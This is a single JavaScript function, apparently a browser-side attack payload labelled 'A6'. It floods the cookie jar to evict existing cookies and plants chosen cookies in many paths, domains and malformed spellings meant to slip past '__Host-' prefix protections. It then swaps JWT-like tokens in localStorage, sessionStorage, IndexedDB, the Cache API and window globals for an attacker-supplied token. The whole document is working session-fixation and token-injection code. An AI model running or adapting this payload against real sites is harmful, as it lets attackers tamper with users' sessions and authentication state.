// A6: fill the jar until old cookies fall out, then put others in their place, in every spelling; the same in the storages.
const plant = async (cookies, tokens, odd) => {
  const site = location.hostname.split(".").slice(1).join(".");
  const places = ["Path=/; Secure", "Path=/; Secure; SameSite=Lax", "Path=/api; Secure", "Path=/auth/refresh; Secure", "Path=/api/refresh; Secure", "Path=/refresh; Secure", `Path=/; Secure; Domain=${site}`, `Path=/api; Secure; Domain=${site}`];
  const put = (spell) => { for (const [name, value] of cookies) for (const attributes of places) for (const spelling of spell(name)) { try { document.cookie = `${spelling}=${value}; ${attributes}`; } catch { /* refused */ } } };
  const plain = (name) => [name];
  put(plain);
  for (let i = 0; i < 220; i++) document.cookie = `filler${i}=${"x".repeat(40)}; Path=/; Secure`;
  put(odd ? (name) => [name, ` ${name}`, `\u2000${name}`, `${name} `, `"${name}"`, name.replace("__Host-Http-", ""), name.replace("__Host-Http-", "__Host-")] : plain);
  for (let i = 0; i < 220; i++) document.cookie = `filler${i}=; Path=/; Secure; Max-Age=0`;
  const signed = (value) => typeof value === "string" && /ey[\w-]+\.[\w-]+\.[\w-]+/.test(value);
  const [token, ...others] = tokens;
  if (!token) return;
  for (const storage of [localStorage, sessionStorage]) {
    for (const key of Object.keys(storage)) {
      if (signed(storage[key])) storage[key] = storage[key].replaceAll(/ey[\w-]+\.[\w-]+\.[\w-]+/g, token);
      else if (others.length && storage[key].length > 15) storage[key] = others[0];
    }
  }
  const request = (asked) => new Promise((yes, no) => { asked.onsuccess = () => yes(asked.result); asked.onerror = () => no(asked.error); });
  for (const { name } of (await indexedDB.databases?.()) ?? []) {
    const db = await request(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      const writing = db.transaction(store, "readwrite").objectStore(store);
      const keys = await request(writing.getAllKeys());
      for (const key of keys) {
        const row = await request(writing.get(key));
        const swap = (value) => signed(value) ? value.replaceAll(/ey[\w-]+\.[\w-]+\.[\w-]+/g, token) : value;
        const changed = typeof row === "string" ? swap(row) : row && typeof row === "object" && !(row instanceof CryptoKey) ? Object.fromEntries(Object.entries(row).map(([k, v]) => [k, swap(v)])) : row;
        if (changed !== row) { try { await request(writing.keyPath === null ? writing.put(changed, key) : writing.put(changed)); } catch { /* not a plain row */ } }
      }
    }
    db.close();
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const key of await cache.keys()) {
      const text = await (await cache.match(key)).text();
      if (signed(text)) await cache.put(key, new Response(text.replaceAll(/ey[\w-]+\.[\w-]+\.[\w-]+/g, token)));
    }
  }
  for (const name of Object.getOwnPropertyNames(window)) { try { if (signed(window[name])) window[name] = token; } catch { /* read-only */ } }
};
